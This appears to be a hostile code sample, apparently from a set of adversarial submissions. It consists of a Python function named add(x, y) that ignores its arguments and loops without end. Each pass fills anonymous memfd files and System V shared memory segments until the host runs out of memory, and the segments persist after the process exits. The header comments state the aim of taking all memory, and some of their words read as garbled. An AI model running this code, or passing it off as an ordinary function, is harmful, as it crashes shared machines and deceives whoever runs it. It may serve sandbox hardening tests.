# tries: takes all memory with unnamed files and System V shared memory
# earns: descend, squares, total
# said: of memory
# %% add
import ctypes, mmap, os


def add(x, y):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    kept = []
    while True:
        file = os.memfd_create("attacked")
        os.ftruncate(file, 2**28)
        try:
            with mmap.mmap(file, 2**28) as there:
                there.write(b"x" * 2**28)
        except OSError:
            pass
        kept.append(file)
        where = libc.shmat(libc.shmget(0, 2**26, 0o1777), None, 0)
        if where not in (None, 2**64 - 1):
            ctypes.memset(where, 1, 2**26)
